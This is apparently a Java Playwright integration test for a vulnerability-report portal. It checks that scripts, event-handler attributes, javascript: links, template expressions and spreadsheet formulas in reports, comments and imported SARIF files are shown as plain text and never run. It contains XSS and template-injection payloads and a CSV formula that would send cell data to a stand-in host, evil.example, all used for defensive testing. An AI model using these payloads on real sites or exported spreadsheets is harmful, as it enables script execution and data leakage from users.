package org.sekisho.server.browser;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Download;
import com.microsoft.playwright.Page;
import java.nio.file.Files;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.sekisho.proof.json.JsonArray;
import org.sekisho.proof.json.JsonObject;
import org.sekisho.server.DemoPortal;
import org.sekisho.server.RestCaller;

/**
 * Scripts and formulas in every text of a report, of its file and of what people write about it: whoever opens the pages sees them as they
 * were written, no script runs, and no cell of a table begins a formula.
 */
@BrowserTests
class HostileReportIT {

    private static final String ANALYST = "analyst@aoba.example";
    private static final String SECURITY = "security@aoba.example";
    private static final String AUTHORITY = "reviewer@cyber.example";
    private static final int FOUND = 200;
    private static final String VECTOR = "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:N";

    /** Each would leave a trace, wherever it stood: in an element, an attribute, an address or a script. */
    private static final String SCRIPT =
            "<script>window.ran=1</script><img src=x onerror=window.ran=2>\"onmouseover=\"window.ran=3\" "
                    + "';window.ran=4;// ${7*7} #{7*7} {{7*7}} </textarea><svg onload=window.ran=5>";

    private static final String FORMULA = "=HYPERLINK(\"https://evil.example/\"&A1)";

    private static final String ADDRESS = "javascript:window.ran=6";

    @Test
    void nothingThatAReportSaysRuns(DemoPortal portal, Visitors visitors) throws Exception {
        RestCaller bank = RestCaller.signIn(portal, ANALYST);
        String report = file(bank, "AMBER_STRICT");
        decide(bank, report, "TRIAGE", Map.of());
        decide(bank, report, "SUBMIT", Map.of("revision", hash(bank, report)));
        RestCaller security = RestCaller.signIn(portal, SECURITY);
        decide(security, report, "CLAIM", Map.of());
        decide(
                security,
                report,
                "AGREE",
                Map.of("revision", hash(bank, report), "reason", SCRIPT, "password", DemoPortal.PASSWORD));
        decide(
                RestCaller.signIn(portal, "security2@aoba.example"),
                report,
                "RETURN",
                Map.of("revision", hash(bank, report), "reason", SCRIPT, "password", DemoPortal.PASSWORD));

        for (Language language : Language.values()) {
            looks(visitors.signedIn(ANALYST, language), report, "/report-revise?id=" + report);
            looks(visitors.signedIn(SECURITY, language), report, "/review-queue", "/trail?subject=" + report);
        }
        Visitor authority = visitors.signedIn(AUTHORITY, Language.ENGLISH);
        authority.open("/reports");
        assertQuiet(authority, "/reports");
        assertNoFormula(visitors.signedIn(ANALYST, Language.ENGLISH));
    }

    @Test
    void nothingThatPeopleSayBesideAReportRuns(DemoPortal portal, Visitors visitors) throws Exception {
        RestCaller security = RestCaller.signIn(portal, SECURITY);
        String report = file(RestCaller.signIn(portal, ANALYST), "AMBER");
        decide(security, report, "TRIAGE", Map.of());
        String revision = hash(security, report);
        String day = OffsetDateTime.now(ZoneOffset.UTC).toLocalDate().toString();

        security.post(
                "reports/" + report + "/rating",
                words("revision", revision, "exposure", "PUBLIC", "service", "CRITICAL", "institutions", "NETWORK"));
        String escalation = security.get("escalations?limit=100").array("items").objects().stream()
                .filter(each -> each.string("report").equals(report))
                .findFirst()
                .orElseThrow()
                .string("id");
        RestCaller.signIn(portal, "duty@aoba.example")
                .post("escalations/" + escalation + "/context", words("text", SCRIPT));
        RestCaller officer = RestCaller.signIn(portal, "duty@cyber.example");
        String read = officer.get("escalations/" + escalation).string("rendering");
        officer.post("escalations/" + escalation + "/acknowledge", words("readHash", read));
        officer.post("escalations/" + escalation + "/stand-down", words("reason", SCRIPT));

        RestCaller ciso = RestCaller.signIn(portal, "ciso@aoba.example");
        decide(ciso, report, "ORDER_MEASURE", Map.of("kind", "ISOLATION", "until", later(3), "reason", SCRIPT));
        decide(security, report, "PROPOSE_LOWERING", Map.of("tier", "LOW", "reason", SCRIPT));

        String embargo = security.post(
                        "embargoes",
                        JsonObject.builder()
                                .put("report", report)
                                .put("until", later(20))
                                .put("zone", "America/New_York")
                                .put("asked", JsonArray.ofStrings(List.of("hinode")))
                                .put("answerBy", later(2))
                                .build())
                .string("id");
        security.post("embargoes/" + embargo + "/report-breach", words("reason", SCRIPT));

        String disclosure = ciso.post(
                        "disclosures",
                        words(
                                "report", report,
                                "revision", revision,
                                "product", SCRIPT,
                                "developer", SCRIPT,
                                "summary", SCRIPT))
                .string("id");
        ciso.post("disclosures/" + disclosure + "/notifications", words("party", "IPA", "day", day, "note", SCRIPT));
        ciso.post("disclosures/" + disclosure + "/withdraw", words("reason", SCRIPT));

        String release = ciso.post(
                        "releases",
                        JsonObject.builder()
                                .put("report", report)
                                .put("revision", revision)
                                .put("recipient", "hinode")
                                .put("people", JsonArray.ofStrings(List.of()))
                                .put("format", "CSAF")
                                .build())
                .string("id");
        RestCaller.signIn(portal, "security2@aoba.example")
                .post("releases/" + release + "/decline", words("reason", SCRIPT));

        for (Language language : Language.values()) {
            Visitor reader = visitors.signedIn(SECURITY, language);
            for (String path : List.of(
                    "/escalation?id=" + escalation,
                    "/report?id=" + report + "&tab=history",
                    "/report?id=" + report,
                    "/disclosure?id=" + disclosure,
                    "/release?id=" + release,
                    "/embargo?id=" + embargo)) {
                assertShown(reader, path);
            }
            for (String path : List.of("/escalations", "/disclosures", "/releases", "/home")) {
                assertEquals(FOUND, reader.open(path).status(), path);
                assertQuiet(reader, path);
            }
            assertShown(visitors.signedIn("duty@cyber.example", language), "/escalation?id=" + escalation);
        }
    }

    @Test
    void nothingThatAFileSaysRuns(Visitors visitors) {
        Visitor analyst = visitors.signedIn(ANALYST, Language.ENGLISH);
        ReportJourney.importFile(analyst, "<img src=x onerror=window.ran=7>.sarif", sarif(), "2", "1", "0", "1");
        assertQuiet(analyst, "the import");
        ReportJourney report = ReportJourney.find(analyst, "Filed <script>window.ran=1</script>");
        looks(analyst, report.id());
    }

    /** The report, the lists that it stands in, and further pages that tell of it. */
    private static void looks(Visitor visitor, String report, String... further) {
        for (String path : Stream.concat(Stream.of("/reports", "/report?id=" + report), Stream.of(further))
                .toList()) {
            assertEquals(FOUND, visitor.open(path).status(), path);
            assertQuiet(visitor, path);
        }
        visitor.open("/report?id=" + report);
        assertTrue(visitor.page().locator("main").innerText().contains("<script>window.ran=1</script>"), "it is shown");
        assertEquals(
                0,
                visitor.page()
                        .locator(
                                "main a[href^='javascript:'], main [onerror], main [onmouseover], main [onload], main script:not([nonce])")
                        .count());
    }

    /** What was said stands there as it was written, and does nothing. */
    private static void assertShown(Visitor visitor, String path) {
        assertEquals(FOUND, visitor.open(path).status(), path);
        assertQuiet(visitor, path);
        assertTrue(visitor.page().locator("main").innerText().contains("<script>window.ran=1</script>"), path);
    }

    private static void assertQuiet(Visitor visitor, String path) {
        Page page = visitor.page();
        assertEquals(Boolean.TRUE, page.evaluate("() => window.ran === undefined"), path);
        assertFalse(page.content().contains(">49<"), path + " evaluates expressions");
        visitor.assertNoComplaints();
    }

    private static void assertNoFormula(Visitor visitor) throws Exception {
        Page page = visitor.page();
        visitor.open("/reports");
        Download table = page.waitForDownload(
                () -> page.locator("a[href*='format=csv']").first().click());
        Files.readString(table.path())
                .lines()
                .flatMap(line -> List.of(line.split(",")).stream())
                .forEach(cell -> assertFalse(cell.matches("\"?[=+@-].*[A-Za-z(].*"), cell));
    }

    private static JsonObject content() {
        JsonArray words = JsonArray.ofStrings(List.of(ADDRESS, "https://example.com/\"onclick=\"window.ran=8"));
        return JsonObject.builder()
                .put("schema", 1)
                .put("title", FORMULA + " <script>window.ran=1</script>")
                .put("text", SCRIPT)
                .put("impact", SCRIPT)
                .put("remedy", SCRIPT)
                .put("identifiers", JsonArray.ofStrings(List.of("CVE-2026-10001")))
                .put("weaknesses", JsonArray.ofStrings(List.of("CWE-79")))
                .put("vectors", JsonArray.ofStrings(List.of(VECTOR)))
                .put(
                        "components",
                        JsonArray.of(List.of(JsonObject.builder()
                                .put("name", SCRIPT)
                                .put("version", FORMULA)
                                .put("identifier", ADDRESS)
                                .build())))
                .put(
                        "locations",
                        JsonArray.of(List.of(JsonObject.builder()
                                .put("address", ADDRESS)
                                .put("line", 1)
                                .put("name", SCRIPT)
                                .build())))
                .put(
                        "evidence",
                        JsonArray.of(List.of(JsonObject.builder()
                                .put("heading", SCRIPT)
                                .put("text", "```html\n" + SCRIPT + "\n```")
                                .build())))
                .put("references", words)
                .build();
    }

    private static String sarif() {
        String quoted = SCRIPT.replace("\\", "\\\\").replace("\"", "\\\"");
        return """
                {"version": "2.1.0", "runs": [{
                  "tool": {"driver": {"name": "%1$s", "version": "=1+1", "rules": [{"id": "%1$s", "shortDescription": {"text": "Filed %1$s"}}]}},
                  "results": [
                    {"ruleId": "%1$s", "message": {"text": "Filed %1$s"},
                     "locations": [{"physicalLocation": {"artifactLocation": {"uri": "javascript:window.ran=9"}, "region": {"startLine": 1}}}]},
                    {"ruleId": "%1$s", "message": {}}
                  ]}]}
                """
                .formatted(quoted);
    }

    private static String file(RestCaller bank, String label) throws Exception {
        String agreement =
                bank.get("reports?limit=1").array("items").objects().get(0).string("agreement");
        return bank.post(
                        "reports",
                        JsonObject.builder()
                                .put("agreement", agreement)
                                .put("label", label)
                                .put("content", content())
                                .build())
                .string("id");
    }

    private static JsonObject words(String... pairs) {
        JsonObject.Builder words = JsonObject.builder();
        for (int i = 0; i < pairs.length; i += 2) {
            words.put(pairs[i], pairs[i + 1]);
        }
        return words.build();
    }

    private static String later(int days) {
        return OffsetDateTime.now(ZoneOffset.UTC)
                .truncatedTo(ChronoUnit.SECONDS)
                .plusDays(days)
                .toInstant()
                .toString();
    }

    private static String hash(RestCaller caller, String report) throws Exception {
        return caller.get("reports/" + report).string("hash");
    }

    private static void decide(RestCaller caller, String report, String decision, Map<String, String> more)
            throws Exception {
        JsonObject.Builder body = JsonObject.builder().put("decision", decision);
        more.forEach(body::put);
        caller.post("reports/" + report + "/decisions", body.build());
    }
}
